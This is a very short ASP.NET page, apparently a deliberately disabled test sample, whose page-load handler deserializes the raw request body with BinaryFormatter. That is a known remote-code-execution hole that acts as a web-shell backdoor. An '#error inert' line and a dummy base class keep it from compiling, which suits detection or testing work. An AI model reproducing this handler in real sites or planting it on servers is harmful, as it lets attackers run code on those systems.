<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(Request.InputStream); }
</script>
